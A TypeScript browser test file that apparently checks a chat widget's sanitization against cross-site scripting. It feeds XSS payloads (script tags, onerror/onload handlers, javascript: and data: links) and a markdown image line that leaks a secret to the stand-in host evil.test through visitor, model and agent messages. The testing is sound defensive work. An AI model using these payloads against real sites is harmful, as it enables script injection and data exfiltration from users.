/**
 * The XSS battery, in real Chromium on a page WITHOUT a CSP (so nothing is masked by the browser):
 * visitor text, an agent's reply and streamed model text, each carrying script tags, img onerror,
 * svg onload, iframes, javascript: and data: links and markdown image exfiltration. Nothing may
 * execute, no request may leave for the attacker's host, and the payloads must show as text.
 */
import { afterAll, beforeAll, expect, it } from 'vitest'
import type { Browser } from 'playwright-core'
import { launchChromium, startTemplateServer } from './browser'
import { startHostSite, type HostSite } from './widget-host'

let site: HostSite
let browser: Browser
beforeAll(async () => {
  site = await startHostSite(startTemplateServer)
  browser = await launchChromium()
})
afterAll(async () => {
  await browser?.close()
  await site?.close()
})

const payload = (who: string) =>
  [
    `${who}: <script>window.__pwned='${who}-script'</script>`,
    `<img src="http://evil.test/${who}-img.png" onerror="window.__pwned='${who}-img'">`,
    `<svg onload="window.__pwned='${who}-svg'"></svg> <iframe src="http://evil.test/${who}-frame"></iframe>`,
    `[click me](javascript:window.__pwned='${who}-link') [data](data:text/html,<script>alert(1)</script>)`,
    `<a href="javascript:window.__pwned='${who}-a'">raw link</a>`,
    `![exfil](http://evil.test/${who}-leak.png?secret=ORDER-123) [![x](http://evil.test/${who}-nested.png)](http://evil.test/)`,
  ].join('\n')

it('visitor, agent and streamed model text with script, onerror, javascript: and image exfiltration: nothing runs or loads', async () => {
  const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 }, locale: 'en-US' })
  const page = await ctx.newPage()
  const leaks: string[] = []
  const dialogs: string[] = []
  page.on('request', (r) => /evil\.test|^javascript:|^data:/.test(r.url()) && leaks.push(r.url()))
  page.on('dialog', (d) => {
    dialogs.push(d.message())
    void d.dismiss()
  })
  ctx.on('page', (p) => leaks.push('popup ' + p.url()))
  await page.goto(site.url + '/?csp=0')
  await page.getByRole('button', { name: 'Open chat' }).click()
  const dialog = page.getByRole('dialog')
  const box = page.getByRole('textbox', { name: 'Write a message…' })

  // 1. The visitor's own text.
  await box.fill(payload('visitor'))
  await box.press('Enter')
  await expect
    .poll(() => dialog.textContent(), { timeout: 15_000 })
    .toContain("visitor: <script>window.__pwned='visitor-script'</script>")
  await expect
    .poll(() => dialog.getByRole('button', { name: 'Helpful', exact: true }).count(), { timeout: 15_000 })
    .toBe(1)

  // 2. Streamed model text (the answer endpoint is replaced by one that streams the payload).
  await page.route(
    (u) => u.pathname.endsWith('/messages'),
    async (route) => {
      if (route.request().method() !== 'POST') return route.fallback()
      const body = JSON.parse(route.request().postData() || '{}')
      const sid = new URL(route.request().url()).pathname.split('/')[3]
      const base = {
        session_id: sid,
        agent: null,
        status: 'complete',
        confidence: 0.9,
        created_at: new Date().toISOString(),
        private: false,
      }
      const text = payload('model') + '\nSee [1] and [2].'
      const ev = (event: string, data: unknown) => `event: ${event}\ndata: ${JSON.stringify(data)}\n\n`
      const sse =
        ev('message', {
          ...base,
          id: '00000000-0000-4000-8000-00000000aa01',
          seq: 1000,
          message_type: 'user',
          content: body.content,
          client_message_id: body.client_message_id,
          sources: [],
        }) +
        text
          .match(/[\s\S]{1,7}/g)!
          .map((t) => ev('delta', { text: t }))
          .join('') +
        ev('done', {
          ...base,
          id: '00000000-0000-4000-8000-00000000aa02',
          seq: 1001,
          message_type: 'ai',
          content: text,
          client_message_id: null,
          sources: [
            {
              id: 's1',
              title: 'evil source',
              url: "javascript:window.__pwned='model-source'",
              snippet: '<img src=x onerror=alert(1)>',
            },
            { id: 's2', title: 'data source', url: 'data:text/html,<script>alert(1)</script>' },
          ],
        })
      await route.fulfill({
        status: 200,
        headers: { 'content-type': 'text/event-stream', 'access-control-allow-origin': site.url },
        body: sse,
      })
    },
  )
  await box.fill('Tell me something dangerous')
  await box.press('Enter')
  await expect
    .poll(() => dialog.textContent(), { timeout: 15_000 })
    .toContain("model: <script>window.__pwned='model-script'</script>")
  await expect.poll(() => dialog.getByRole('button', { name: 'Helpful', exact: true }).count()).toBe(2)
  await page.unroute((u) => u.pathname.endsWith('/messages'))

  // 3. An agent's reply, through the console API, arriving live on the event stream.
  const sid = await page.evaluate(
    () => JSON.parse(localStorage.getItem('parley:pk_demo')!).session_id as string,
  )
  const login = await fetch(`${site.apiUrl}/v1/auth/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ email: 'agent@demo.local', password: 'demo1234' }),
  }).then((r) => r.json())
  const auth = { authorization: `Bearer ${login.access_token}`, 'content-type': 'application/json' }
  const me = await fetch(`${site.apiUrl}/v1/me`, { headers: auth }).then((r) => r.json())
  const tenant = me.memberships[0].tenant_id
  const sent = await fetch(`${site.apiUrl}/v1/tenants/${tenant}/sessions/${sid}/messages`, {
    method: 'POST',
    headers: auth,
    body: JSON.stringify({ content: payload('agent') }),
  })
  expect(sent.status).toBe(201)
  await expect
    .poll(() => dialog.textContent(), { timeout: 15_000 })
    .toContain("agent: <script>window.__pwned='agent-script'</script>")

  // Click every link and every piece of would-be-link text the payloads produced.
  for (const text of ['click me', 'raw link', 'exfil']) {
    const n = await dialog.getByText(text, { exact: false }).count()
    for (let i = 0; i < n; i++)
      await dialog
        .getByText(text, { exact: false })
        .nth(i)
        .click({ force: true })
        .catch(() => {})
  }
  await page.waitForTimeout(500)

  const dom = await page.evaluate(() => {
    const root = document.querySelector('parley-widget')!.shadowRoot!
    const all = Array.from(root.querySelectorAll('*'))
    return {
      dangerous: all
        .filter((e) => /^(script|img|iframe|object|embed|image|foreignobject)$/i.test(e.tagName))
        .map((e) => e.outerHTML),
      handlers: all.flatMap((e) =>
        Array.from(e.attributes)
          .filter((a) => /^on/i.test(a.name))
          .map((a) => `${e.tagName} ${a.name}`),
      ),
      hrefs: Array.from(root.querySelectorAll('a')).map((a) => a.getAttribute('href')),
      pwned: (window as any).__pwned ?? null,
    }
  })
  expect(dom.pwned).toBeNull()
  expect(dialogs).toEqual([])
  expect(leaks).toEqual([])
  expect(dom.dangerous).toEqual([])
  expect(dom.handlers).toEqual([])
  // the only links: the source links of the real answer and the http link target of the nested image link
  for (const h of dom.hrefs) expect(h).toMatch(/^(https?:|mailto:)/)
  expect(dom.hrefs.length).toBeGreaterThan(0)
  await page.screenshot({ path: 'test-results/shots/widget-xss.png' })
  await ctx.close()
})
